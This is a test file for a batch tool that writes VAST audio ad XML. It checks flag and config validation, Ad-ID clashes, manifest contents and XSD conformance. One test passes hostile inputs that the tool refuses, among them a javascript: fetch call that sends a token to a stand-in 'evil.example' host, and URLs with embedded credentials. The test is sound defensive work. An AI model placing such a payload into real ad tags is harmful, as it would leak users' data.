// `studio-batch render` to `vast-audio` (issues 41 and 43): the VAST settings from the flags and the config file,
// read with the editor's own checks (a hostile impression URL refused naming its flag, exit 2, nothing sent, the
// URL never echoed); then 3 rows, one failing, in this process against the service emulator: each good row's
// <key>/vast.xml is valid against the IAB's VAST 4.1 XSD (xmllint) and points at <base><key>/<file> for files
// that are in the out folder with the size it says; the failed row has none; the manifest lists each document.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { startEmulator, type Emulator } from '../../demo/server/emulator/server.js';
import { rowJobs } from '../../src/batch/run.js';
import { rowJobId, templateId } from '../../src/batch/row-job.js';
import { rowValuesOf } from '../../src/batch/render-row.js';
import type { DeliveryManifest } from '../../src/delivery/types.js';
import { validate } from './json-schema.js';
import { csvOf, filesUnder, runBatch } from './support/batch-run.js';
import { servedTemplate, type ServedTemplate } from './support/batch-template.js';
import { needTools } from './support/tools.js';

const run = promisify(execFile);
const XSD = fileURLToPath(new URL('../fixtures/vast_4.1.xsd', import.meta.url));
const KEY = 'sk-batch-vast-5c1e88a0';
const BASE = 'https://cdn.example.com/ads/summer/';
const IMPRESSIONS = ['https://track.example.com/imp?ad=summer&v=1', 'https://other.example.net/i'];
const ERROR_URL = 'https://track.example.com/error?code=1';
/** Three rows: WS-200 has no price, so it fails. */
const ROWS = [
  ['TR-100', 'Trail runner shoes', '59.99'],
  ['WS-200', 'Wool socks', ''],
  ['HJ-300', 'Hiking jacket', '189.00'],
];
const GOOD = ['TR-100', 'HJ-300'];

/** The strings XPath `expression` selects in `file`, one a line (a CDATA section's markers taken off). */
async function xpath(file: string, expression: string): Promise<string[]> {
  const { stdout } = await run('xmllint', ['--xpath', expression, file]);
  return stdout
    .split('\n')
    .map((line) => line.replace(/^\s*<!\[CDATA\[|\]\]>\s*$/g, '').trim())
    .filter(Boolean);
}

/** `/A/B` as an XPath of elements in any namespace (VAST's). */
const ns = (path: string) => path.replace(/\/(\w+)/g, "/*[local-name()='$1']");

describe('studio-batch render to vast-audio', () => {
  let emulator: Emulator;
  let served: ServedTemplate;
  let dir = '';
  const env = { STUDIO_API_KEY: KEY };
  const requests = () => emulator.state.requests.entries.length;
  /** The project (without rows) and the feed written for `name`; the command's flags for them. */
  const files = (name: string): string[] => {
    const project = join(dir, `${name}.json`);
    const feed = join(dir, `${name}.csv`);
    writeFileSync(project, JSON.stringify({ ...served.template, feed: { ...served.template.feed!, rows: [] } }));
    writeFileSync(feed, csvOf(ROWS));
    return ['render', '--project', project, '--feed', feed, '--base-url', emulator.url, '--destinations', 'vast-audio', '--workers', '2'];
  };

  before(async () => {
    emulator = await startEmulator({ apiKey: KEY, jobStepMs: 2, testRoutes: true });
    served = await servedTemplate(ROWS.map((row) => [...row]), ['vast-audio']);
    dir = mkdtempSync(join(tmpdir(), 'batch-vast-'));
  });
  after(async () => {
    await emulator?.close();
    await served?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('refuses a hostile impression URL, naming --vast-impression without echoing it: exit 2, nothing sent or written', async () => {
    const before = requests();
    const out = join(dir, 'hostile');
    const token = 'tok-4f9a2c7e61';
    const hostile = await runBatch([...files('hostile'), '--out', out, '--vast-base-url', BASE, '--vast-impression', IMPRESSIONS[0]!, '--vast-impression', `https://track.example.com/imp?t=${token}&cb=[CACHEBUSTING]`], env);
    assert.equal(hostile.code, 2, hostile.stdout + hostile.stderr);
    assert.match(hostile.stderr, /^studio-batch render: --vast-impression #2: expected "\[" and "\]" only around an IPv6 host/);
    assert.ok(!(hostile.stdout + hostile.stderr).includes(token), 'the URL is not repeated');
    const script = await runBatch([...files('hostile'), '--out', out, '--vast-base-url', BASE, '--vast-impression', `javascript:fetch('https://evil.example/?k=${token}')`], env);
    assert.equal(script.code, 2);
    assert.match(script.stderr, /--vast-impression #1: expected an http\(s\) URL, not a "javascript:" one/);
    assert.ok(!(script.stdout + script.stderr).includes(token));
    const many = await runBatch([...files('hostile'), '--out', out, '--vast-base-url', BASE, ...Array.from({ length: 11 }, (_, i) => ['--vast-impression', `https://t.example.com/${i}`]).flat()], env);
    assert.equal(many.code, 2);
    assert.match(many.stderr, /--vast-impression: expected at most 10 URLs, got 11/);
    const query = await runBatch([...files('hostile'), '--out', out, '--vast-base-url', `${BASE}?sig=${token}`, '--vast-ad-system', 'Acme\nAds'], env);
    assert.equal(query.code, 2);
    assert.match(query.stderr, /--vast-base-url: expected a base URL without "\?" or "#"/);
    assert.match(query.stderr, /--vast-ad-system: expected text without control characters/);
    assert.ok(!(query.stdout + query.stderr).includes(token));
    const unplaced = await runBatch([...files('hostile'), '--out', out], env);
    assert.equal(unplaced.code, 2);
    assert.match(unplaced.stderr, /The "vast-audio" destination writes each row's vast\.xml, .*give that address with --vast-base-url URL/);
    const uncounted = await runBatch([...files('hostile'), '--out', out, '--vast-base-url', BASE], env);
    assert.equal(uncounted.code, 2, 'no impression URL from any flag, file or profile');
    assert.match(uncounted.stderr, /^studio-batch render: The "vast-audio" destination writes a vast\.xml, .*none was given: give at least one impression URL with --vast-impression URL/);
    const config = join(dir, 'hostile.mjs');
    writeFileSync(config, `export default { vast: { impressionUrls: ['http://user:${token}@track.example.com/'] } };\n`);
    const file = await runBatch([...files('hostile'), '--out', out, '--config', config, '--vast-base-url', BASE], env);
    assert.equal(file.code, 2);
    assert.ok(file.stderr.includes(`${config}: vast.impressionUrls[0]: expected a URL without a user name or password in it`), file.stderr);
    assert.ok(!file.stderr.includes(token));
    assert.equal(requests(), before, 'no request was sent');
    assert.ok(!existsSync(out), 'nothing was written');
  });

  it('refuses two rows with one Ad-ID from the feed\'s Ad-ID column, naming both: exit 2, nothing sent or written', async () => {
    const before = requests();
    const out = join(dir, 'twice');
    const template = served.template;
    const project = join(dir, 'twice.json');
    const feed = join(dir, 'twice.csv');
    const mapping = [...template.feed!.mapping, { column: 'ad_id', slot: `__ad_id__${template.openVersion}` }];
    writeFileSync(project, JSON.stringify({ ...template, feed: { ...template.feed!, columns: [...template.feed!.columns, 'ad_id'], rows: [], mapping } }));
    writeFileSync(feed, csvOf([[...template.feed!.columns, 'ad_id'], ...ROWS.map((row, index) => [...row, index === 1 ? 'ACME7000300' : 'acme7000100'])]).split('\n').slice(1).join('\n'));
    const twice = await runBatch(['render', '--project', project, '--feed', feed, '--base-url', emulator.url, '--destinations', 'vast-audio', '--workers', '2', '--out', out, '--vast-base-url', BASE, '--vast-impression', IMPRESSIONS[0]!], env);
    assert.equal(twice.code, 2, twice.stdout + twice.stderr);
    assert.match(twice.stderr, /^studio-batch render: Not delivered: Row "TR-100" and row "HJ-300" have the same Ad-ID, "ACME7000100"/);
    assert.equal(requests(), before, 'no request was sent');
    assert.ok(!existsSync(out), 'nothing was written');
  });

  describe('with valid settings (flags over the config file)', () => {
    const out = () => join(dir, 'out');
    let manifest: DeliveryManifest;
    let code = -1;
    let said = '';

    before(async () => {
      needTools('ffmpeg', 'xmllint'); // Missing, each test below fails saying so.
      // The file gives a base URL the flag replaces, and the ad system no flag gives.
      const config = join(dir, 'vast.mjs');
      writeFileSync(config, `export default { vast: { mediaBaseUrl: 'https://old.example.com/ads/', adSystem: 'Acme Ads' } };\n`);
      const result = await runBatch(
        [...files('ad'), '--out', out(), '--config', config, '--vast-base-url', BASE, ...IMPRESSIONS.flatMap((url) => ['--vast-impression', url]), '--vast-error-url', ERROR_URL],
        env,
      );
      code = result.code;
      said = result.stdout + result.stderr;
      manifest = JSON.parse(readFileSync(join(out(), 'manifest.json'), 'utf8')) as DeliveryManifest;
    });

    it('delivers the 2 good rows (4 files and a vast.xml each) and fails the row missing its price, exiting 1', () => {
      assert.equal(code, 1, said);
      assert.match(said, /2 delivered, 0 already done, 1 failed, of 3 jobs/);
      assert.deepEqual(manifest.feed!.rows.map((row) => [row.key, row.status]), [['WS-200', 'failed'], ...GOOD.map((key) => [key, 'delivered'])]);
      const rowFiles = filesUnder(out()).filter((name) => /^[A-Z]{2}-\d{3}\//.test(name));
      for (const key of GOOD) {
        assert.equal(rowFiles.filter((name) => name.startsWith(`${key}/`) && /\.(mp3|wav)$/.test(name)).length, 4, key);
        assert.ok(rowFiles.includes(`${key}/vast.xml`), `${key}/vast.xml`);
        assert.ok(manifest.feed!.rows.find((row) => row.key === key)!.files.includes(`${key}/vast.xml`));
      }
      assert.deepEqual(rowFiles.filter((name) => name.startsWith('WS-200/')), [], 'the failed row has no files and no vast.xml');
      assert.ok(!said.includes(KEY));
    });

    it('lists each vast.xml in the manifest as written and valid, and the manifest validates against its schema', () => {
      assert.deepEqual(
        manifest.vast?.map((entry) => [entry.fileName, entry.row, entry.destination, entry.written, entry.valid, entry.problems]).sort(),
        GOOD.map((key) => [`${key}/vast.xml`, key, 'vast-audio', true, true, []]).sort(),
      );
      const schema = JSON.parse(readFileSync(new URL('../../docs/delivery-manifest.schema.json', import.meta.url), 'utf8')) as Record<string, unknown>;
      assert.deepEqual(validate(manifest, schema), [], 'manifest.json validates against its schema');
    });

    for (const key of GOOD) {
      it(`${key}/vast.xml validates against the VAST 4.1 XSD and points at <base>${key}/<file> for each file in the out folder`, async () => {
        needTools('xmllint');
        const xml = join(out(), key, 'vast.xml');
        const { stderr } = await run('xmllint', ['--noout', '--schema', XSD, xml]);
        assert.match(stderr, /validates/);
        assert.deepEqual(await xpath(xml, `${ns('/VAST/Ad/InLine/Impression')}/text()`), IMPRESSIONS);
        assert.deepEqual(await xpath(xml, `${ns('/VAST/Ad/InLine/Error')}/text()`), [ERROR_URL]);
        assert.deepEqual(await xpath(xml, `string(${ns('/VAST/Ad/InLine/AdSystem')})`), ['Acme Ads'], 'the config file\'s, which no flag replaced');
        const media = ns('/VAST/Ad/InLine/Creatives/Creative/Linear/MediaFiles');
        const urls = await xpath(xml, `${media}/*/text()`);
        const sizes = (await xpath(xml, `${media}/*/@fileSize`)).map((attribute) => Number(/"(\d+)"/.exec(attribute)![1]));
        assert.equal(urls.length, 4, '3 MP3s and the Mezzanine');
        assert.equal(sizes.length, 4);
        const listed = manifest.files.filter((file) => file.row === key).map((file) => file.fileName);
        for (const [index, url] of urls.entries()) {
          assert.ok(url.startsWith(`${BASE}${key}/`), url);
          const name = decodeURIComponent(url.slice(`${BASE}${key}/`.length));
          assert.equal(`${BASE}${key}/${encodeURIComponent(name)}`, url);
          assert.ok(listed.includes(name), `${name} is a delivered file of ${key}`);
          assert.equal(statSync(join(out(), key, name)).size, sizes[index], `${name}: fileSize`);
        }
      });
    }

    it('skips every job run again with the same settings, and renders the VAST jobs again when they change', async () => {
      needTools('ffmpeg', 'xmllint');
      const config = join(dir, 'vast.mjs');
      const same = await runBatch([...files('ad'), '--out', out(), '--config', config, '--vast-base-url', BASE, ...IMPRESSIONS.flatMap((url) => ['--vast-impression', url]), '--vast-error-url', ERROR_URL], env);
      assert.match(same.stdout, /0 delivered, 2 already done, 1 failed, of 3 jobs/);
      const moved = 'https://media.example.org/v2/';
      const counter = 'https://count.example.org/i?ad=summer';
      const changed = await runBatch([...files('ad'), '--out', out(), '--config', config, '--vast-base-url', moved, '--vast-impression', counter], env);
      assert.match(changed.stdout, /2 delivered, 0 already done, 1 failed, of 3 jobs/);
      for (const key of GOOD) {
        const xml = join(out(), key, 'vast.xml');
        const urls = await xpath(xml, `${ns('/VAST/Ad/InLine/Creatives/Creative/Linear/MediaFiles')}/*/text()`);
        assert.ok(urls.length === 4 && urls.every((url) => url.startsWith(`${moved}${key}/`)), urls.join(' '));
        assert.deepEqual(await xpath(xml, `${ns('/VAST/Ad/InLine/Impression')}/text()`), [counter], 'the impression URL given this time, and no other');
        assert.ok(!readFileSync(xml, 'utf8').includes('about:blank'), 'no placeholder impression');
      }
    });
  });

  it('gives the VAST settings only to the jobs of VAST destinations: their ids change with them, the others\' do not', () => {
    const template = served.template;
    const id = templateId(template);
    const vast = { mediaBaseUrl: BASE };
    const [plain, withVast] = [rowJobs(template, id, ['streaming', 'vast-audio']), rowJobs(template, id, ['streaming', 'vast-audio'], (destination) => (destination === 'vast-audio' ? vast : undefined))];
    const values = rowValuesOf(template, 0);
    assert.deepEqual(withVast[0]![1], { template: id, row: 'TR-100', destination: 'vast-audio', vast });
    assert.equal(rowJobId(withVast[0]![0]!, values), rowJobId(plain[0]![0]!, values), 'streaming: the same id');
    assert.notEqual(rowJobId(withVast[0]![1]!, values), rowJobId(plain[0]![1]!, values), 'vast-audio: a new id');
    assert.notEqual(rowJobId(withVast[0]![1]!, values), rowJobId({ ...withVast[0]![1]!, vast: { mediaBaseUrl: 'https://other.example.com/' } }, values));
  });
});
